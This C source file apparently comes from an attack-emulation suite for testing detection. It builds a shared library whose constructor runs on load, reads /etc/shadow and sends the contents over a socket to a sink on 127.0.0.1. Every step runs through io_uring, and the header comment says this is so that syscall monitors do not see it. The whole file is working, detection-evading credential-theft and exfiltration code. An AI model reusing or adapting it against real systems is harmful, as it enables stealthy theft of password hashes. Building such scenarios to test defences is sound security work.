/* SPDX-License-Identifier: (BSD-2-Clause OR GPL-2.0-only) */
/* libscn_iouring_exfil.so: credential theft with no read, socket, connect
 * or send syscall: the constructor opens and reads /etc/shadow, creates a
 * socket, connects to the sink on 127.0.0.1, sends and reads the answer,
 * all as io_uring operations (the technique of io_uring rootkits such as
 * ARMO's "curing" that syscall monitors do not see).
 * ATT&CK: T1003.008 /etc/shadow, exfiltrated over the C2 channel (T1041).
 * Proof: NAME.ran first; NAME.done once the sink acknowledged every byte. */
#include "scn.h"
#include "uring.h"

__attribute__((constructor)) static void uring_init(void)
{
	struct sockaddr_in a = { .sin_family = AF_INET,
				 .sin_port = htons(scn_port("SCENARIO_SINK_PORT")),
				 .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	char buf[65536], reply[64];
	struct scn_uring r;
	int fd, sock, n, got;

	scn_mark("ran");
	if (scn_uring_open(&r))
		return;
	fd = scn_uring_openat(&r, "/etc/shadow", O_RDONLY | O_CLOEXEC, 0);
	n = fd >= 0 ? scn_uring_read(&r, fd, buf, sizeof(buf)) : -1;
	if (fd >= 0)
		scn_uring_closefd(&r, fd);
	sock = scn_uring_socket(&r, AF_INET, SOCK_STREAM);
	if (n > 0 && sock >= 0 && !scn_uring_connect(&r, sock, &a, sizeof(a)) &&
	    scn_uring_send(&r, sock, buf, n) == n && !scn_uring_shutdown(&r, sock, SHUT_WR) &&
	    (got = scn_uring_recv(&r, sock, reply, sizeof(reply) - 1)) > 3) {
		reply[got] = 0;
		if (!strncmp(reply, "OK ", 3) && atoi(reply + 3) == n)
			scn_mark("done");
	}
	if (sock >= 0)
		scn_uring_closefd(&r, sock);
	scn_uring_close(&r);
}
